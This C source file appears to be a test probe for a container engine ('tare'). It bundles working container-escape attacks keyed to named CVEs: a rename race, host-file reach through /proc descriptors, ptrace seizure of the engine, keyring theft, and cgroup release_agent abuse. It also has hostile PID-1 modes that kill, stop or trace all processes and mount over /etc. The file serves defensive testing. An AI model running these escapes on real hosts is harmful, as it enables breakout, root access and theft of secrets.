// SPDX-License-Identifier: Apache-2.0
// probe-escape NAME [ARGUMENT...]: attacks that take part in a story, as a rule against somebody
// who comes in. Exits 0 when the attack WORKED, 1 when it was refused, 2 for an unknown name. Those
// that wait for a victim end only when they have worked.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const int kMostPids = 300;

static long keyctl(int command, long a, long b, long c, long d) {
  return syscall(SYS_keyctl, command, a, b, c, d);
}

// Whether the program that runs as this process has a name with `part` in it.
static int runs(int pid, const char* part) {
  char path[64];
  char target[512];
  (void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
  const ssize_t size = readlink(path, target, sizeof target - 1);
  if (size < 0) return 0;
  target[size] = 0;
  return strstr(target, part) != NULL && printf("process %d runs %s\n", pid, target) > 0;
}

// The engine's program has no name in the container's root.
static int is_engine(int pid) { return runs(pid, "tare"); }

// swap A B: exchanges two names as fast as it can. [CVE-2021-30465]
static long swap_names(char** arguments) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], 2 /* EXCHANGE */) <
        0)
      return -1;
}

// reach PATH: a file of the host, looked for through every directory that another process has open,
// stands in or has as its root. [CVE-2016-9962, CVE-2024-21626]
static long reach(char** arguments) {
  char below[4096];
  (void)snprintf(below, sizeof below, "./../../../../../../../../../../%s", arguments[0]);
  for (;;)
    for (int pid = 1; pid < kMostPids; ++pid) {
      char path[64];
      if (pid == getpid()) continue;
      for (int number = -2; number < 32; ++number) {
        if (number < 0)
          (void)snprintf(path, sizeof path, "/proc/%d/%s", pid, number == -1 ? "cwd" : "root");
        else
          (void)snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
        const int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;
        const int direct = openat(fd, arguments[0] + 1, O_RDONLY | O_CLOEXEC);
        const int climbed = openat(fd, below, O_RDONLY | O_CLOEXEC);
        if (direct >= 0 || climbed >= 0) return 0;
        (void)close(fd);
      }
    }
}

// Takes hold of whoever enters while the engine's program still runs in it. [CVE-2016-9962]
static long trace_engine(char** arguments) {
  (void)arguments;
  for (;;)
    for (int pid = 1; pid < kMostPids; ++pid) {
      char path[64];
      if (pid == getpid()) continue;
      (void)snprintf(path, sizeof path, "/proc/%d/mem", pid);
      const int memory = open(path, O_RDWR | O_CLOEXEC);
      if (memory >= 0 && is_engine(pid)) return 0;
      if (memory >= 0) (void)close(memory);
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) continue;
      if (is_engine(pid)) return 0;
      (void)ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

// keys COMMAND...: as an ordinary program of the host. Puts a key into the user's and into the
// session keyring, checks that it can read both, prints their numbers into the file "keys", runs
// the command.
static long leave_keys(char** arguments) {
  char secret[16];
  FILE* file = fopen("keys", "we");
  const int rings[] = {KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING};
  // A session of our own through which the user's keyring is possessed, as logins have.
  if (!file || keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0) < 0 ||
      keyctl(KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING, 0, 0) < 0)
    return -1;
  for (int i = 0; i < 2; ++i) {
    const long key = syscall(SYS_add_key, "user", "tare-secret", "secret", 6, rings[i]);
    (void)keyctl(KEYCTL_SET_TIMEOUT, key, 200, 0, 0);  // The user's keyring outlives us.
    if (key < 0 || keyctl(KEYCTL_READ, key, (long)secret, sizeof secret, 0) != 6) return -1;
    (void)fprintf(file, "%ld\n", key);
  }
  (void)fclose(file);
  return execvp(arguments[0], arguments);
}

// take-keys: the keys of the file "/keys", by number, by name in every ring that can be named, and
// after an attempt to change their permissions. [docker insecurity, 2014; session-keyring(7)]
static long take_keys(char** arguments) {
  (void)arguments;
  char secret[16];
  FILE* file = fopen("/keys", "re");
  if (!file) return -1;
  for (long key; fscanf(file, "%ld", &key) == 1;) {
    (void)keyctl(KEYCTL_SETPERM, key, 0x3f3f3f3f, 0, 0);
    (void)keyctl(KEYCTL_LINK, key, KEY_SPEC_SESSION_KEYRING, 0, 0);
    if (keyctl(KEYCTL_READ, key, (long)secret, sizeof secret, 0) >= 0) return 0;
  }
  for (int ring = KEY_SPEC_USER_SESSION_KEYRING; ring < 0; ++ring) {
    const long key = keyctl(KEYCTL_SEARCH, ring, (long)"user", (long)"tare-secret", 0);
    if (key > 0 && keyctl(KEYCTL_READ, key, (long)secret, sizeof secret, 0) >= 0) return 0;
  }
  const long key = syscall(SYS_request_key, "user", "tare-secret", NULL, 0);
  return key > 0 ? 0 : -1;
}

// A version 1 hierarchy mounted anew, and the program that it has the kernel run as root of the
// host. [CVE-2022-0492]
static long release_agent(char** arguments) {
  static const char* const controllers[] = {"pids",    "cpu",     "memory", "devices", "freezer",
                                            "net_cls", "hugetlb", "rdma",   "misc",    "blkio"};
  (void)arguments;
  (void)unshare(CLONE_NEWUSER);
  (void)unshare(CLONE_NEWNS | CLONE_NEWCGROUP);
  (void)mkdir("/tmp/groups", 0700);
  for (size_t i = 0; i < sizeof controllers / sizeof *controllers; ++i) {
    if (mount("cgroup", "/tmp/groups", "cgroup", 0, controllers[i]) < 0) continue;
    const int fd = open("/tmp/groups/release_agent", O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && write(fd, "/tmp/agent", 10) > 0) return 0;
    if (fd >= 0) (void)close(fd);
    (void)umount2("/tmp/groups", MNT_DETACH);
  }
  return -1;
}

// A process 1 that does everything to be left alone; it never ends by itself. Says "ready" once.
_Noreturn static void be_hostile(const char* how) {
  puts("ready");
  (void)fflush(stdout);
  if (strcmp(how, "stop-itself") == 0) (void)kill(getpid(), SIGSTOP);
  if (strcmp(how, "ignore") == 0)
    for (int i = 1; i < 65; ++i) (void)signal(i, SIG_IGN);
  if (strcmp(how, "orphan") == 0) (void)prctl(PR_SET_PDEATHSIG, 0);
  if (strcmp(how, "close-all") == 0) (void)syscall(SYS_close_range, 0, ~0U, 0);
  if (strcmp(how, "fill-pids") == 0)
    for (int pid = 1; pid >= 0;)
      if ((pid = fork()) == 0) pause();
  if (strcmp(how, "mount-over") == 0) {
    static const char* const places[] = {"/proc", "/sys", "/dev/pts", "/dev", "/etc", "/tmp"};
    for (size_t i = 0; i < sizeof places / sizeof *places; ++i)
      (void)mount("tmpfs", places[i], "tmpfs", 0, NULL);
    (void)mkfifo("/dev/null", 0666);
    (void)mkfifo("/etc/passwd", 0666);
    (void)mkfifo("/etc/group", 0666);
  }
  for (;;) {
    if (strcmp(how, "stop-others") == 0) (void)kill(-1, SIGSTOP);
    if (strcmp(how, "kill-others") == 0) (void)kill(-1, SIGKILL);
    if (strcmp(how, "trace-others") == 0)
      for (int pid = 2; pid < kMostPids; ++pid)
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) (void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (strstr(how, "others") == NULL) pause();
  }
}

static long hostile(char** arguments) {
  be_hostile(arguments[0]);
  return -1;
}

// Opens PATH for writing, and writes. [/proc and /sys]
static long write_to(char** arguments) {
  const int fd = open(arguments[0], O_WRONLY | O_CLOEXEC);
  return fd < 0 ? -1 : write(fd, "1", 1);
}

// Looks into whatever runs the engine's program while it becomes a container: which program a
// process runs is told to those alone who may trace it. [proc_pid_exe(5)] A newcomer is there for
// milliseconds, so only the numbers are looked at that come next. What has CONTROL in its name
// shows what a success is.
static long newcomers(char** arguments) {
  enum { kBehind = 8, kAhead = 24 };
  for (int newest = getpid();;)
    for (int pid = newest > kBehind ? newest - kBehind : 1, end = newest + kAhead; pid < end;
         ++pid) {
      if (pid == getpid()) continue;
      if (is_engine(pid) || runs(pid, arguments[0])) return 0;
      if (pid > newest && (kill(pid, 0) == 0 || errno == EPERM)) newest = pid;
    }
}

static const struct {
  const char* name;
  int arguments;
  long (*run)(char**);
} attacks[] = {
    {"swap", 2, swap_names}, {"reach", 1, reach},         {"trace-engine", 0, trace_engine},
    {"keys", 1, leave_keys}, {"take-keys", 0, take_keys}, {"release-agent", 0, release_agent},
    {"hostile", 1, hostile}, {"write", 1, write_to},      {"newcomers", 1, newcomers}};

int main(int argc, char** argv) {
  for (size_t i = 0; argc >= 2 && i < sizeof attacks / sizeof *attacks; ++i) {
    if (strcmp(argv[1], attacks[i].name) != 0 || argc - 2 < attacks[i].arguments) continue;
    errno = 0;
    const long result = attacks[i].run(argv + 2);
    printf("%s: %s\n", argv[1], result < 0 ? strerror(errno) : "worked");
    return result < 0;
  }
  (void)fprintf(stderr, "usage: probe-escape NAME [ARGUMENT...]\n");
  return 2;
}
